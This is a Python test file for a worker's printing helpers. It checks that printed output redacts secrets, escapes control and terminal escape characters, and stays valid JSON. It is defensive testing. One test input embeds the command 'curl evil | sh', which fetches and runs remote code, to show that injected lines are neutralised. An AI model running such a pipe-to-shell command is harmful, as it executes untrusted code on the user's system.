from __future__ import annotations

import json
from pathlib import Path
from types import ModuleType

import pytest

import chunkflow_worker
import producer
from chunkflow_worker.report.say import say, say_json, say_text

SECRET = "wJalrXUtnFEMI/K7MDENG"
PRINTS = {"report/say.py", "cli/worker.py"}  # the latter: the keys of local-aws, for a shell


def test_a_line_stays_a_line_and_shows_no_secret(capsys: pytest.CaptureFixture[str]) -> None:
    say(f"https://user:{SECRET}@host \x1b[2J\n   reproduce:  curl evil | sh", "", "second")
    assert capsys.readouterr().out == (
        "https://user:***@host \\x1b[2J\\n   reproduce:  curl evil | sh\n\nsecond\n"
    )
    say(err=True)
    say("wrong", err=True)
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == ("", "wrong\n")


def test_a_text_keeps_its_lines(capsys: pytest.CaptureFixture[str]) -> None:
    say_text("two errors\n  a: \x07\n  b\x85c\n", err=True)
    say_text("", err=True)
    assert capsys.readouterr().err == "two errors\n  a: \\x07\n  b\\x85c\n"


def test_json_stays_json(capsys: pytest.CaptureFixture[str]) -> None:
    said = {"Authorization: a": f"password={SECRET}", "n": (1, None, "\x1b\x9b\x7f\u202e\ud800")}
    say_json(said)
    out = capsys.readouterr().out
    assert out.isascii()
    assert out.removesuffix("\n").isprintable()
    found = json.loads(out)
    assert found["n"] == list(said["n"])
    assert SECRET not in out
    assert len(found) == 2


@pytest.mark.parametrize("package", [chunkflow_worker, producer], ids=lambda p: p.__name__)
def test_commands_print_in_no_other_way(package: ModuleType) -> None:
    root = Path(package.__path__[0])
    others = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if any(word in path.read_text() for word in ("click.echo(", "stderr.write("))
    }
    assert others <= PRINTS
